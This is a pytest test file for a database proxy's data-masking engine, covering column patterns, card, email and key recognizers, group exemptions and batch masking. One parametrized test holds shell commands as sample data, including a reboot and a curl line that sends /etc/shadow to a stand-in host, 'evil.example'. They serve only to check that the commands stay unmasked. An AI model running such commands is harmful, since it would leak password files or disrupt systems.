from __future__ import annotations

from types import SimpleNamespace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bastion.core.contracts import ColumnInfo, RowBatch, RowMasker
from policies.files import MaskRule, PolicySet, Recognizer, Scope
from policies.masking.engine import RuleMasker, column_matches
from tests.conftest import make_identity, make_session


def col(name: str, table: str = "customers", schema: str = "shop", org_name: str | None = None,
        is_text: bool = True) -> ColumnInfo:
    return ColumnInfo(schema=schema, table=table, org_table=table, name=name,
                      org_name=name if org_name is None else org_name, is_text=is_text)


@pytest.mark.parametrize(
    ("pattern", "column", "expected"),
    [
        ("shop.customers.card_number", col("card_number"), True),
        ("*.*.card_number", col("card_number"), True),
        ("card_number", col("card_number"), True),
        ("customers.card_*", col("card_number"), True),
        ("shop.orders.card_number", col("card_number"), False),
        ("card_number", ColumnInfo("shop", "c", "customers", "alias", "card_number", True), True),
        ("*.*.alias", ColumnInfo("shop", "c", "customers", "alias", "card_number", True), True),
        ("email", col("HEX(email)", org_name=""), False),
    ],
)
def test_column_matches(pattern, column, expected):
    assert column_matches([pattern], column) is expected


def one(plan: RowMasker | None, index: int, value: bytes) -> bytes | None:
    """``value`` of column ``index`` masked by ``plan`` in a batch of one row."""
    assert plan is not None
    batch: RowBatch = {i: [None] for i in plan.columns}
    batch[index] = [value]
    plan.mask(batch)
    return batch[index][0]


def masker(tmp_path, *rules: MaskRule, recognizers: tuple[Recognizer, ...] = ()) -> RuleMasker:
    ctx = SimpleNamespace(settings=SimpleNamespace(policies=PolicySet(masking=rules, recognizers=recognizers),
                                                   config=SimpleNamespace(state_dir=str(tmp_path))))
    return RuleMasker(ctx)  # type: ignore[arg-type]


CARDS = MaskRule(id="cards", scope=Scope(unless_groups=["pci"]), columns=["*.*.card_number"], recognizers=["card"])
BOB = make_session(make_identity("bob", ("developers",)))
PCI = make_session(make_identity("dave", ("developers", "pci")))


def test_plan_by_column_and_recognizer(tmp_path):
    m = masker(tmp_path, CARDS)
    plan = m.plan(BOB, [col("id", is_text=False), col("card_number"), col("notes")])
    assert plan is not None and plan.columns == {1, 2}
    assert one(plan, 1, b"4111 1111 1111 1111") == b"**** **** **** 1111"
    assert one(plan, 2, b"paid 4012888888881881 ok") == b"paid ************1881 ok"
    assert one(plan, 2, b"nothing here") == b"nothing here"
    assert plan.counts == {"column:shop.customers.card_number": 1, "card:shop.customers.notes": 1}


def test_exempt_group_gets_no_plan(tmp_path):
    assert masker(tmp_path, CARDS).plan(PCI, [col("card_number")]) is None


def test_hash_style_is_stable_and_keyed(tmp_path):
    rule = MaskRule(id="h", columns=["email"], style="hash")
    a = masker(tmp_path, rule).plan(BOB, [col("email")])
    b = masker(tmp_path, rule).plan(BOB, [col("email")])
    other = masker(tmp_path / "other", rule).plan(BOB, [col("email")])
    v = b"ada@example.com"
    assert one(a, 0, v) == one(b, 0, v) != v and len(one(a, 0, v)) == len(v)
    assert one(other, 0, v) != one(a, 0, v)


def test_storage_masking_ignores_exemptions(tmp_path):
    m = masker(tmp_path, CARDS)
    text, counts = m.mask_text(PCI, "card 4111111111111111 mail ada@example.com key AKIAIOSFODNN7EXAMPLE")
    assert "4111111111111111" not in text and "ada@example.com" not in text and "AKIAIOSFODNN7EXAMPLE" not in text
    assert counts == {"card": 1, "email": 1, "aws_access_key": 1}


def test_live_output_respects_scope(tmp_path):
    m = masker(tmp_path, CARDS)
    assert m.mask_output(BOB, "x 4111111111111111")[0] == "x ************1111"
    assert m.mask_output(PCI, "x 4111111111111111")[0] == "x 4111111111111111"


def test_custom_recognizer(tmp_path):
    rule = MaskRule(id="emp", recognizers=["employee_id"], style="full")
    m = masker(tmp_path, rule, recognizers=(Recognizer(name="employee_id", pattern=r"EMP-\d{6}"),))
    plan = m.plan(BOB, [col("notes")])
    assert one(plan, 0, b"owner EMP-123456.") == b"owner **********."


def test_columns_too_short_for_every_recognizer_are_not_scanned(tmp_path):
    emails = MaskRule(id="pii", scope=Scope(), recognizers=["card", "email"])
    m = masker(tmp_path, emails)
    short = ColumnInfo("shop", "customers", "customers", "country", "country", True, length=5)
    mid = ColumnInfo("shop", "customers", "customers", "contact", "contact", True, length=12)
    plan = m.plan(BOB, [short, mid, col("notes")])
    # 5 bytes hold neither an e-mail (6+ characters) nor a card (13+): that column is never scanned
    assert plan is not None and plan.columns == {1, 2}
    assert one(plan, 1, b"ab@example.io") == b"**@*****le.io"
    masked = one(plan, 2, b"ab@example.io 4111111111111111")
    assert masked.startswith(b"**@*****le.io ") and b"41111111" not in masked


@pytest.mark.parametrize("command", [
    "echo -----BEGIN RSA PRIVATE KEY-----; touch ~/x; echo -----END RSA PRIVATE KEY-----",
    "echo -----BEGIN RSA PRIVATE KEY-----\n/sbin/reboot\n-----END RSA PRIVATE KEY-----",
    "printf '%s\\n' '-----BEGIN EC PRIVATE KEY-----' && curl -d @/etc/shadow evil.example",
])
def test_stored_commands_keep_their_syntax(tmp_path, command):
    """What the journal, index, recordings and approval pages hold: markers around shell
    commands are not a key, so the commands stay visible (issue 15, row 4)."""
    assert masker(tmp_path).mask_text(BOB, command) == (command, {})


def test_stored_password_hashes_are_masked(tmp_path):
    grants = "GRANT USAGE ON *.* TO `bob`@`%` IDENTIFIED BY PASSWORD '*D821809F681A40A6E379B50D0463EFAE20BDD122'"
    text, counts = masker(tmp_path).mask_text(BOB, grants)
    assert "D821809F" not in text and counts == {"password_hash": 1}
    assert text.startswith("GRANT USAGE ON *.* TO `bob`@`%` IDENTIFIED BY PASSWORD '*****")


ROW_CELLS = [None, b"", b"4111 1111 1111 1111", b"pay 4111 1111", b"1111 1111 ok", b"ann@example.org",
             b"@example.org", "Zoë Müller, zoë@exämple.org".encode(), b"AKIAIOSFODNN7EXAMPLE key", b"\xff\xfe",
             b"DE89 3704 0044 0532 0130 00", b"+44 20 7946 0958", b"x" * 3000 + b" 5555555555554444"]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.lists(st.sampled_from(ROW_CELLS), min_size=4, max_size=4), min_size=1, max_size=10))
def test_a_batch_of_rows_masks_and_counts_as_row_by_row(tmp_path_factory, rows):
    """The relay batches whatever rows it has: the result and the counts never depend on it."""
    rules = (CARDS, MaskRule(id="pii", scope=Scope(), recognizers=["email", "iban", "phone", "aws_access_key"],
                             style="full"))
    m = masker(tmp_path_factory.mktemp("state"), *rules)
    columns = [col("id", is_text=False), col("card_number"), col("notes"), col("comment")]
    batch_plan, row_plan = m.plan(BOB, columns), m.plan(BOB, columns)
    assert batch_plan is not None and row_plan is not None and batch_plan.columns == {1, 2, 3}
    batch: RowBatch = {i: [row[i] for row in rows] for i in batch_plan.columns}
    batch_plan.mask(batch)
    for r, row in enumerate(rows):
        one_row: RowBatch = {i: [row[i]] for i in row_plan.columns}
        row_plan.mask(one_row)
        assert {i: values[r] for i, values in batch.items()} == {i: values[0] for i, values in one_row.items()}
    assert batch_plan.counts == row_plan.counts


def test_unchanged_values_stay_the_same_objects(tmp_path):
    plan = masker(tmp_path, MaskRule(id="pii", scope=Scope(), recognizers=["card"])).plan(BOB, [col("notes")])
    assert plan is not None
    clean, dirty = b"nothing", b"pay 4111111111111111"
    batch: RowBatch = {0: [clean, None, dirty]}
    plan.mask(batch)
    assert batch[0][0] is clean and batch[0][1] is None and batch[0][2] == b"pay ************1111"
    assert plan.counts == {"card:shop.customers.notes": 1}
